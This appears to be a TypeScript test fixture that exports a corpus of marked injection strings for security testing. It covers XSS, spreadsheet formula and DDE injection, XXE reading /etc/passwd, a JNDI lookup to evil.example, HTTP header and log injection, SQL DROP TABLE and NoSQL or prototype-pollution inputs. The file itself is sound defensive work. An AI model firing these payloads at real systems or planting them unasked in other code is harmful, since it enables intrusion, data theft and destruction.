/** Texts that do harm where somebody takes them for more than text. Each holds a word of its own: it can be looked for. */

/** What every text of the corpus holds. */
export const MARK = 'hrm9x';

const XSS = [
  '<script>alert("hrm9x")</script>',
  '"><img src=x onerror=alert(`hrm9x`)>',
  "'-alert('hrm9x')-'",
  '</textarea></title><svg/onload=alert(/hrm9x/)>',
  'javascript:alert("hrm9x")',
  'data:text/html;base64,hrm9x',
  '<!--hrm9x--><![CDATA[<b>]]>',
  '&lt;script&gt;hrm9x&#60;&#x3c;&amp;',
  '</script><script>hrm9x',
  '{{constructor.constructor("hrm9x")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder that somebody's template engine may fill in
  '${hrm9x} #{hrm9x} <%= hrm9x %> {% hrm9x %}',
  '\u2028hrm9x\u2029',
  '<a href="//evil.example/hrm9x">',
  '\u202ehrm9x\u202c \u2066hrm9x\u2069',
  '＜script＞hrm9x＜/script＞',
];

const FORMULAS = [
  '=cmd|"/c calc"!A0 hrm9x',
  '=HYPERLINK("https://evil.example/hrm9x","x")',
  '+1+cmd|hrm9x',
  '-2+3+hrm9x',
  '@SUM(hrm9x)',
  '\t=hrm9x()',
  '\r=hrm9x()',
  '=1+1";=hrm9x;"',
  '"=hrm9x',
  'hrm9x\n=1+1',
  'hrm9x,=1+1,"',
  'hrm9x;=1+1',
  '＝hrm9x()',
];

const XML = [
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;hrm9x</x>',
  ']]><prospect status="hrm9x">',
  '</comments></customer><customer>hrm9x',
  '&hrm9x;&#0;&#x1;',
  '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="hrm9x"/></x>',
  'hrm9x\u0000\u0001\u0008\u000b\u001f',
  'hrm9x\ufffe\uffff',
];

const LOGS = [
  'hrm9x\n{"level":30,"time":0,"msg":"an admin has joined"}',
  'hrm9x\r\nHTTP/1.1 200 OK\r\nX-Injected: hrm9x\r\n\r\n',
  'hrm9x\u001b[2J\u001b]0;title\u0007\u009b31m',
  '%s %d %j %o hrm9x %n',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder that somebody's template engine may fill in
  '${jndi:ldap://evil.example/hrm9x}',
  'hrm9x\b\b\b\b\b\u007f',
  'hrm9x\u0085\u000c',
];

const QUERIES = [
  "hrm9x'; DROP TABLE events; --",
  "' OR '1'='1' /*hrm9x*/",
  '"hrm9x"}}],"x":{"$gt":""',
  '\\hrm9x\\" \\u0022',
  'hrm9x\u0000after',
  'hrm9x\\u0000',
  '__proto__ hrm9x',
  '🚗 hrm9x 👩‍👩‍👧 e\u0301',
  'hrm9x \ud800 \udc00 alone',
];

export const CORPUS: readonly string[] = [...XSS, ...FORMULAS, ...XML, ...LOGS, ...QUERIES];
